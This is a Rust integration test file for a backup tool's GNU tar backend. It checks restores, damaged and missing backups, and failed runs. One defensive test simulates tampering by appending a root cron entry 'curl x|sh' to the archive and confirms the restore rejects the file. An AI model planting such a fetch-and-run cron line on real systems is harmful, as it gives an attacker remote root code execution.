//! The tar backend with the real GNU tar: a tree with every awkward kind of
//! file is backed up, restored elsewhere, and checked against the manifest;
//! damaged and missing backups fail with a clear error; a failed run keeps
//! the previous backup.

mod common;

use common::{
    assert_private, changed_during_backup_is_restored_unverified,
    failed_backup_keeps_the_previous_one, round_trip, spec, usual_umask, Real,
};
use rear_backup::tar::{Tar, ARCHIVE};
use rear_backup::{generation, restore_and_verify, Backend};
use std::fs;

#[test]
fn everything_comes_back_as_it_was() {
    usual_umask();
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
    };
    round_trip(&b, &Real::default(), d.path());
    assert_private(&b.dir);
    // One generation is left, with its archive and manifest, and the pointer.
    let mut left: Vec<String> = fs::read_dir(&b.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left.len(), 2, "{left:?}");
    assert_eq!(left[1], generation::POINTER);
    let gen = generation::current(&b.dir).unwrap().unwrap();
    assert_eq!(left[0], gen);
    assert!(b.dir.join(&gen).join(ARCHIVE).is_file());
    assert!(b.dir.join(&gen).join(generation::SUMS).is_file());
}

#[test]
fn a_damaged_backup_fails_and_says_why() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(&src).unwrap();
    fs::write(src.join("a"), vec![7u8; 1 << 20]).unwrap();
    let b = Tar {
        dir: d.path().join("target"),
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    let mut data = fs::read(&archive).unwrap();
    let mid = data.len() / 2;
    data[mid] ^= 0xff;
    fs::write(&archive, data).unwrap();
    let dst = d.path().join("dst");
    fs::create_dir_all(&dst).unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
    );
    assert!(
        err.contains("tar could not restore") || err.contains("differ from the backup's manifest"),
        "{err}"
    );
}

#[test]
fn a_missing_backup_or_manifest_is_an_error() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("nothing"),
    };
    let err = format!(
        "{:#}",
        restore_and_verify(&b, d.path(), &Real::default()).unwrap_err()
    );
    assert!(err.contains("no checksum manifest"), "{err}");

    // A pointer to a generation without its manifest.
    fs::create_dir_all(b.dir.join("backup-1")).unwrap();
    generation::switch(&b.dir, "backup-1").unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, d.path(), &Real::default()).unwrap_err()
    );
    assert!(
        err.contains("backup-1") && err.contains("no checksum manifest"),
        "{err}"
    );
}

#[test]
fn a_failed_backup_keeps_the_previous_one() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
    };
    failed_backup_keeps_the_previous_one(&b, &Real::default(), d.path());
    // The failed run's generation is gone; only the good one is left.
    let gens = fs::read_dir(&b.dir)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(generation::PREFIX)
        })
        .count();
    assert_eq!(gens, 1);
}

#[test]
fn a_file_that_changes_during_the_backup_is_restored_unverified() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
    };
    changed_during_backup_is_restored_unverified(&b, &Real::default(), d.path());
}

/// A file slipped into the archive after the backup (as an attacker with
/// write access to the backup server would) is restored by tar, but no
/// manifest entry vouches for it: the restore fails, naming it.
#[test]
fn a_file_added_to_the_archive_fails_the_restore() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(src.join("etc/cron.d")).unwrap();
    fs::write(src.join("etc/cron.d/ok"), "* * * * * root true\n").unwrap();
    let b = Tar {
        dir: d.path().join("target"),
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    let evil = d.path().join("evil");
    fs::create_dir_all(evil.join("etc/cron.d")).unwrap();
    fs::write(evil.join("etc/cron.d/evil"), "* * * * * root curl x|sh\n").unwrap();
    let plain = d.path().join("plain.tar");
    common::sh(&format!(
        "zstd -q -d -o '{p}' '{a}' && tar --append --file='{p}' -C '{e}' ./etc/cron.d/evil && zstd -q -f -o '{a}' '{p}'",
        p = plain.display(),
        a = archive.display(),
        e = evil.display()
    ));
    let dst = d.path().join("dst");
    fs::create_dir_all(&dst).unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
    );
    assert!(dst.join("etc/cron.d/evil").is_file(), "tar restored it");
    assert!(
        err.contains("etc/cron.d/evil: restored, but not in the backup's manifest"),
        "{err}"
    );
}
